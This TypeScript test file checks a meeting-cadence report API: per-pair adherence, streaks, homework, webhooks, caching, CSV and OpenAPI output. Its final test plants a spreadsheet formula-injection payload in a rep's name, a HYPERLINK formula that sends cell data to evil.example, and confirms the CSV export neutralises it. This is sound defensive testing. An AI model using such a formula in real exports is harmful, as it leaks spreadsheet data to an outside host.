import { parse } from 'csv-parse/sync';
import { Webhook } from 'standardwebhooks';
import request from 'supertest';
import { afterAll, describe, expect, it } from 'vitest';
import { agendaHarness, agendaReplica } from '../harness/agenda.js';
import { eventually, WebhookReceiver } from '../harness/webhook-receiver.js';
import { buildYear, keyAt, REPORT_NOW } from './year.js';

const h = await agendaHarness('reports_year', {
  start: '2026-01-01T00:00:00Z',
  scheduling: {
    webhooks: { retrySchedule: [0, 100, 100], allowHttpLoopback: true, pollIntervalMs: 50, timeoutMs: 2000, leaseMs: 5000 },
  },
});
const workers = h.scheduling.webhooks.start();
afterAll(() => workers.stop());
const receiver = await WebhookReceiver.start();
const typed = (type: string) => receiver.at('/cadence').filter((r) => (JSON.parse(r.body) as { type: string }).type === type);
const year = await buildYear(h, receiver.url, (type) => eventually(type, () => (typed(type).length ? true : undefined)));
const { org } = year;

const B = (date: string) => keyAt(date, '15:00', 'America/New_York');
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const report = (await org.agenda.get('/v1/reports/cadence?from=2026-01-01&to=2026-12-31').expect(200)).body as Json;
const pair = (rep: string) => report.pairs.find((p: Json) => p.rep.name === rep) as Json;
const manager = (name: string) => report.managers.find((m: Json) => m.manager.name === name) as Json;
const noActivity = { weeksWithFigures: 0, calls: 0, dealsClosed: 0, callsPerDealClosed: null, trendPerWeek: null, weekly: [] };

describe('the cadence report over a hand-built year', () => {
  it('counts pair A (DST, a move within the week, an excused vacation, a restore) by hand', () => {
    const a = pair('Smith, Jo "JJ"');
    expect(a.manager.name).toBe('Mara Manager');
    expect(a.timeZones).toEqual(['America/New_York']);
    // 52 Tuesdays 6 Jan – 29 Dec; at 16 Dec 12:00Z the 22nd and 29th are still to come
    expect(a.scheduled).toEqual({ total: 52, past: 50, upcoming: 2 });
    // 50 past − 1 moved within its week (10 → 12 Mar) − 2 excused (14, 21 Jul) = 47 on the slot,
    // 1 Sep among them (cancelled, then reinstated by the restore policy)
    expect(a.held).toEqual({ onSlot: 47, movedInWeek: 1, total: 48 });
    expect([a.movedOutOfWeek, a.cancelled, a.declined, a.restored]).toEqual([0, { excused: 2, unexcused: 0 }, 0, 1]);
    // 48 held ÷ (50 past − 2 excused)
    expect(a.adherence).toEqual({ percent: 100, held: 48, expected: 48 });
    expect(a.flagged).toBe(false);
    // never missed: excused weeks set aside, so all 48 held weeks are one streak
    expect(a.streak).toEqual({ current: 48, longest: 48, breaks: [], atRisk: [] });
    // 5 assigned (3 on 6 Jan, 1 on 13 Jan, 1 on 15 Dec); done: "Update the forecast" on time,
    // "Call Contoso, Inc." a day late; "Clean up…" open past its 13 Jan due; "Plan the QBR" dropped;
    // 15 Dec's is due 22 Dec (not yet overdue). Rate 2 ÷ (5 − 1) = 50 %.
    expect(a.homework).toEqual({ assigned: 5, completed: 2, completedOnTime: 1, openOverdue: 1, dropped: 1, completionRate: 50 });
    // agendas opened on 6, 13, 20 Jan: 7 + 3 + 0 items covered of 48 held × 7 = 336 → 10/336 = 2.98 → 3.0 %
    expect(a.agenda).toEqual({ heldMeetings: 48, withAgenda: 3, itemsPlanned: 336, itemsCovered: 10, coverage: 3, withNotes: 1 });
    // calls/deals 40/2 = 20, 30/3 = 10, 36/4 = 9 in weeks 2–4; overall 106/9 = 11.78;
    // slope over x = 0, 1, 2: ((−1)(20−13) + 0 + (1)(9−13)) ÷ 2 = −5.5
    expect(a.activity).toEqual({
      weeksWithFigures: 3,
      calls: 106,
      dealsClosed: 9,
      callsPerDealClosed: 11.78,
      trendPerWeek: -5.5,
      weekly: [
        { week: '2026-W02', calls: 40, dealsClosed: 2, callsPerDealClosed: 20 },
        { week: '2026-W03', calls: 30, dealsClosed: 3, callsPerDealClosed: 10 },
        { week: '2026-W04', calls: 36, dealsClosed: 4, callsPerDealClosed: 9 },
      ],
    });
    // the week strip: DST shows in the keys (14:00Z in winter, 13:00Z in summer), one week each
    expect(a.weeks).toHaveLength(52);
    expect(a.weeks[8]).toMatchObject({ week: '2026-W10', occurrenceKey: '20260303T140000Z', category: 'held_on_slot' });
    expect(a.weeks[9]).toMatchObject({ week: '2026-W11', occurrenceKey: '20260310T130000Z', category: 'held_moved_in_week' });
    expect(a.weeks[51]).toMatchObject({ week: '2026-W53', occurrenceKey: '20261229T140000Z', category: 'upcoming' });
  });

  it('counts pair B (a decline, then a move out of the week) and its streaks by hand', () => {
    const b = pair('Ray Rep');
    // 52 Thursdays 8 Jan – 31 Dec; 17, 24, 31 Dec to come
    expect(b.scheduled).toEqual({ total: 52, past: 49, upcoming: 3 });
    expect(b.held).toEqual({ onSlot: 47, movedInWeek: 0, total: 47 });
    expect([b.movedOutOfWeek, b.cancelled, b.declined, b.restored]).toEqual([1, { excused: 0, unexcused: 0 }, 1, 0]);
    // 47 ÷ 49 = 95.92 → 95.9
    expect(b.adherence).toEqual({ percent: 95.9, held: 47, expected: 49 });
    expect(b.flagged).toBe(false);
    // weeks 1–12 held, 13 declined (breaks the 12-week streak), 14 moved out (second miss in a
    // row: at risk), 15–49 held = 35
    expect(b.streak).toEqual({
      current: 35,
      longest: 35,
      breaks: [{ seriesId: year.series.b, occurrenceKey: B('2026-04-02'), streakWeeks: 12 }],
      atRisk: [{ seriesId: year.series.b, occurrenceKey: B('2026-04-09') }],
    });
    expect(b.homework).toEqual({
      assigned: 0,
      completed: 0,
      completedOnTime: 0,
      openOverdue: 0,
      dropped: 0,
      completionRate: null,
    });
    // one agenda (8 Jan) with notes, nothing ticked: 0 of 47 × 7 = 329
    expect(b.agenda).toEqual({ heldMeetings: 47, withAgenda: 1, itemsPlanned: 329, itemsCovered: 0, coverage: 0, withNotes: 1 });
    expect(b.activity).toEqual(noActivity);
  });

  it('counts pair C (Berlin, eleven unexcused cancellations) by hand and flags it', () => {
    const c = pair('Lukas Vertrieb');
    expect(c.manager.name).toBe('Nina Boss');
    // 52 Mondays 5 Jan – 28 Dec; 21 and 28 Dec to come
    expect(c.scheduled).toEqual({ total: 52, past: 50, upcoming: 2 });
    expect(c.held).toEqual({ onSlot: 39, movedInWeek: 0, total: 39 });
    expect([c.movedOutOfWeek, c.cancelled, c.declined, c.restored]).toEqual([0, { excused: 0, unexcused: 11 }, 0, 0]);
    // 39 ÷ 50 = 78 % < 80 %
    expect(c.adherence).toEqual({ percent: 78, held: 39, expected: 50 });
    expect(c.flagged).toBe(true);
    // misses in weeks 2, 4, …, 22, each after one held week: no break, never two in a row;
    // weeks 23–50 held = 28
    expect(c.streak).toEqual({ current: 28, longest: 28, breaks: [], atRisk: [] });
    // Berlin keys: 07:00Z in winter, 06:00Z in summer
    expect(c.weeks[1]).toMatchObject({ occurrenceKey: '20260112T070000Z', category: 'cancelled_unexcused' });
    expect(c.weeks[13]).toMatchObject({ occurrenceKey: '20260406T060000Z', category: 'cancelled_unexcused' });
    expect(c.agenda).toEqual({ heldMeetings: 39, withAgenda: 0, itemsPlanned: 273, itemsCovered: 0, coverage: 0, withNotes: 0 });
    expect(c.activity).toEqual(noActivity);
  });

  it('rolls up per manager and for the organization by hand', () => {
    const mara = manager('Mara Manager');
    expect(mara).toMatchObject({
      pairs: 2,
      flaggedPairs: 0,
      scheduled: { total: 104, past: 99, upcoming: 5 },
      held: { onSlot: 94, movedInWeek: 1, total: 95 },
      movedOutOfWeek: 1,
      cancelled: { excused: 2, unexcused: 0 },
      declined: 1,
      restored: 1,
      // 95 ÷ (99 − 2) = 97.94
      adherence: { percent: 97.9, held: 95, expected: 97 },
      flagged: false,
      homework: { assigned: 5, completed: 2, completedOnTime: 1, openOverdue: 1, dropped: 1, completionRate: 50 },
      // 10 ÷ (336 + 329) = 1.50 %
      agenda: { heldMeetings: 95, withAgenda: 4, itemsPlanned: 665, itemsCovered: 10, coverage: 1.5, withNotes: 2 },
      activity: { weeksWithFigures: 3, calls: 106, dealsClosed: 9, callsPerDealClosed: 11.78, trendPerWeek: -5.5 },
    });
    const nina = manager('Nina Boss');
    expect(nina).toMatchObject({ pairs: 1, flaggedPairs: 1, adherence: { percent: 78, held: 39, expected: 50 }, flagged: true });
    expect(report.organization).toMatchObject({
      managers: 2,
      flaggedManagers: 1,
      pairs: 3,
      flaggedPairs: 1,
      scheduled: { total: 156, past: 149, upcoming: 7 },
      held: { onSlot: 133, movedInWeek: 1, total: 134 },
      movedOutOfWeek: 1,
      cancelled: { excused: 2, unexcused: 11 },
      declined: 1,
      restored: 1,
      // 134 ÷ (149 − 2) = 91.16
      adherence: { percent: 91.2, held: 134, expected: 147 },
      flagged: false,
      // 10 ÷ (665 + 273) = 1.07 %
      agenda: { heldMeetings: 134, withAgenda: 4, itemsPlanned: 938, itemsCovered: 10, coverage: 1.1, withNotes: 2 },
    });
    expect(report).toMatchObject({
      range: { from: '2026-01-01', to: '2026-12-31' },
      threshold: 80,
      generatedAt: new Date(REPORT_NOW).toISOString(),
    });
    expect(report.rules).toEqual({ streakBrokenMinWeeks: 4 });
  });

  it('raised exactly one streak.broken and one cadence.at_risk, for pair B’s weeks 13 and 14', async () => {
    await new Promise((r) => setTimeout(r, 500)); // room for a duplicate to show up
    const got = receiver
      .at('/cadence')
      .map((r) => new Webhook(year.hookSecret).verify(r.body, r.headers as Record<string, string>) as Json);
    expect(got.map((e) => e.type).sort()).toEqual(['cadence.at_risk', 'streak.broken']);
    const broken = got.find((e) => e.type === 'streak.broken')!;
    expect(broken.data).toMatchObject({
      seriesId: year.series.b,
      occurrenceKey: B('2026-04-02'),
      rep: { id: year.people.repB, name: 'Ray Rep' },
      miss: 'declined',
      streak: { weeks: 12, minWeeks: 4 },
    });
    const risk = got.find((e) => e.type === 'cadence.at_risk')!;
    expect(risk.data).toMatchObject({ seriesId: year.series.b, occurrenceKey: B('2026-04-09'), miss: 'moved_out_of_week' });
    expect(risk.data.misses.map((m: Json) => m.occurrenceKey)).toEqual([B('2026-04-02'), B('2026-04-09')]);
    // the report names the same weeks (same function, same rules)
    expect(pair('Ray Rep').streak.breaks[0].occurrenceKey).toBe(broken.data.occurrenceKey);
    expect(pair('Ray Rep').streak.atRisk[0].occurrenceKey).toBe(risk.data.occurrenceKey);
  });

  it('writes the same JSON whether its pairs were worked out while the pages came or after them', async () => {
    const cached = (await agendaReplica(h, 'agenda-report-json', { reportCacheMs: 24 * 3600_000 })).app;
    const path = (threshold: number) => `/v1/reports/cadence?from=2026-01-01&to=2026-12-31&threshold=${threshold}`;
    const viaCache = (threshold: number) =>
      request(cached).get(path(threshold)).set('authorization', `Bearer ${org.key}`).expect(200);
    await viaCache(70); // read and kept: its pairs were worked out as its pages came, at 70
    const late = await viaCache(95); // the kept read at 95: the pairs worked out after, the report written whole
    const early = await org.agenda.get(path(95)).expect(200); // a new read: the pairs and their JSON as the pages came
    expect(early.headers['content-type']).toMatch(/^application\/json/);
    expect(early.text).toBe(late.text);
    expect(early.body.pairs).toHaveLength(3);
  });

  it('answers CSV that agrees with the JSON, RFC 4180 quoting included', async () => {
    const res = await org.agenda.get('/v1/reports/cadence?from=2026-01-01&to=2026-12-31&format=csv').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.text).toContain('"Smith, Jo ""JJ"""');
    expect(res.text.split('\r\n')).toHaveLength(5); // header, 3 pairs, final line end
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    const str = (v: unknown) => (v === null ? '' : String(v));
    rows.forEach((row, i) => {
      const p = report.pairs[i] as Json;
      expect(row).toMatchObject({
        manager_name: p.manager.name,
        rep_name: p.rep.name,
        rep_id: p.rep.id,
        scheduled_past: str(p.scheduled.past),
        scheduled_upcoming: str(p.scheduled.upcoming),
        held_on_slot: str(p.held.onSlot),
        held_moved_in_week: str(p.held.movedInWeek),
        moved_out_of_week: str(p.movedOutOfWeek),
        cancelled_excused: str(p.cancelled.excused),
        cancelled_unexcused: str(p.cancelled.unexcused),
        declined: str(p.declined),
        restored: str(p.restored),
        adherence_percent: str(p.adherence.percent),
        flagged: str(p.flagged),
        current_streak: str(p.streak.current),
        longest_streak: str(p.streak.longest),
        homework_completion_rate: str(p.homework.completionRate),
        agenda_coverage: str(p.agenda.coverage),
        calls_per_deal_closed: str(p.activity.callsPerDealClosed),
        calls_per_deal_trend_per_week: str(p.activity.trendPerWeek),
      });
    });
    expect(rows.map((r) => r.rep_name).sort()).toEqual(['Lukas Vertrieb', 'Ray Rep', 'Smith, Jo "JJ"']);
    // negotiated by Accept as well
    const viaAccept = await org.agenda
      .get('/v1/reports/cadence?from=2026-01-01&to=2026-12-31')
      .set('accept', 'text/csv')
      .expect(200);
    expect(viaAccept.text).toBe(res.text);
  });

  it('filters by manager and rep, defaults to to today, and names bad fields', async () => {
    const mara = (
      await org.agenda.get(`/v1/reports/cadence?from=2026-01-01&to=2026-12-31&managerId=${year.people.mara}`).expect(200)
    ).body as Json;
    expect(mara.pairs.map((p: Json) => p.rep.name).sort()).toEqual(['Ray Rep', 'Smith, Jo "JJ"']);
    expect(mara.organization.adherence).toEqual(manager('Mara Manager').adherence);
    const onlyC = (await org.agenda.get(`/v1/reports/cadence?from=2026-01-01&repId=${year.people.repC}`).expect(200))
      .body as Json;
    // to = today (16 Dec): 50 Mondays from 5 Jan to 14 Dec, all past
    expect(onlyC.range).toEqual({ from: '2026-01-01', to: null });
    expect(onlyC.pairs[0].scheduled).toEqual({ total: 50, past: 50, upcoming: 0 });
    const flaggedAt = (await org.agenda.get('/v1/reports/cadence?from=2026-01-01&to=2026-12-31&threshold=96').expect(200))
      .body as Json;
    expect(
      flaggedAt.pairs
        .filter((p: Json) => p.flagged)
        .map((p: Json) => p.rep.name)
        .sort(),
    ).toEqual(['Lukas Vertrieb', 'Ray Rep']);
    const bad = await org.agenda.get('/v1/reports/cadence?from=2026-12-31&to=2026-01-01').expect(400);
    expect(bad.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(bad.body.errors).toEqual([expect.objectContaining({ field: 'to' })]);
    const badFormat = await org.agenda.get('/v1/reports/cadence?format=xml').expect(400);
    expect(JSON.stringify(badFormat.body)).toContain('format');
    await org.agenda.get('/v1/reports/cadence').set('authorization', 'Bearer nope').expect(401);
  });
});

describe('the number of queries a report makes', () => {
  it('is the same for one pair and for the whole organization: no query per pair or per week', async () => {
    const seen: string[] = [];
    const watch = (coll: string, method: string, filter: unknown) => {
      // what a report asks for (background workers look up other things, without an organization)
      if (
        ['series', 'people', 'occurrences', 'occurrence_outcomes', 'agendas', 'homework', 'report_facts'].includes(coll) &&
        (filter as Json)?.organizationId
      )
        seen.push(`${coll}.${method}`);
    };
    h.scheduling.ctx.models.Series.db.set('debug', watch);
    h.agenda.ctx.models.Agendas.db.set('debug', watch);
    const queriesFor = async (path: string) => {
      seen.length = 0;
      await org.agenda.get(path).expect(200);
      return [...seen].sort();
    };
    try {
      const one = await queriesFor(`/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repC}`);
      const all = await queriesFor('/v1/reports/cadence?from=2026-01-01&to=2026-12-31');
      // agendas and homework through their series' facts (reports/facts/), read by id
      // what the occurrence records say from the outcomes listed beside their keys (occurrences/recorded-keys.ts):
      // no record is read while none is being written
      expect(one).toEqual(['occurrence_outcomes.find', 'people.find', 'report_facts.find', 'series.find']);
      expect(all).toEqual(one);
    } finally {
      h.scheduling.ctx.models.Series.db.set('debug', false);
      h.agenda.ctx.models.Agendas.db.set('debug', false);
    }
  });
});

describe('the report in the agenda OpenAPI document', () => {
  it('is documented with its JSON shape', async () => {
    const doc = (await org.agenda.get('/openapi.json').expect(200)).body as Json;
    const op = doc.paths['/v1/reports/cadence'].get as Json;
    expect(op.security).toEqual([{ apiKey: [] }]);
    expect(op.responses['200'].content['application/json'].schema).toEqual({ $ref: '#/components/schemas/CadenceReport' });
    expect(op.parameters.map((p: Json) => p.name).sort()).toEqual(['format', 'from', 'managerId', 'repId', 'threshold', 'to']);
    expect(Object.keys(doc.components.schemas.CadencePairReport.properties)).toEqual(
      expect.arrayContaining(['adherence', 'streak', 'homework', 'agenda', 'activity', 'weeks']),
    );
  });
});

describe('what a report read is reused for REPORT_CACHE_MS', () => {
  it('shows a change after the cache time (at once without a cache), figures still as of the request', async () => {
    const cached = (await agendaReplica(h, 'agenda-cached', { reportCacheMs: 60_000 })).app;
    const path = `/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repB}`;
    const notesVia = async (app: 'cached' | 'plain') =>
      (app === 'cached'
        ? (await request(cached).get(path).set('authorization', `Bearer ${org.key}`).expect(200)).body
        : (await org.agenda.get(path).expect(200)).body
      ).pairs[0].agenda.withNotes as number;
    expect(await notesVia('cached')).toBe(1);
    await org.agenda
      .patch(`/v1/series/${year.series.b}/occurrences/${B('2026-01-15')}/agenda`, { notes: 'Second notes' })
      .expect(200);
    expect(await notesVia('plain')).toBe(2);
    expect(await notesVia('cached')).toBe(1);
    h.clock.set(new Date(Date.parse(REPORT_NOW) + 60_001).toISOString());
    expect(await notesVia('cached')).toBe(2);
  });
});

describe('CSV opened in a spreadsheet', () => {
  it('neutralises a name that a spreadsheet would run as a formula; JSON keeps it as given', async () => {
    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Lukas")';
    await org.scheduling.patch(`/v1/people/${year.people.repC}`, { name }).expect(200);
    const path = `/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repC}`;
    const rows = parse((await org.agenda.get(`${path}&format=csv`).expect(200)).text, { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows.map((r) => r.rep_name)).toEqual([`'${name}`]);
    expect((await org.agenda.get(path).expect(200)).body.pairs[0].rep.name).toBe(name);
  });
});
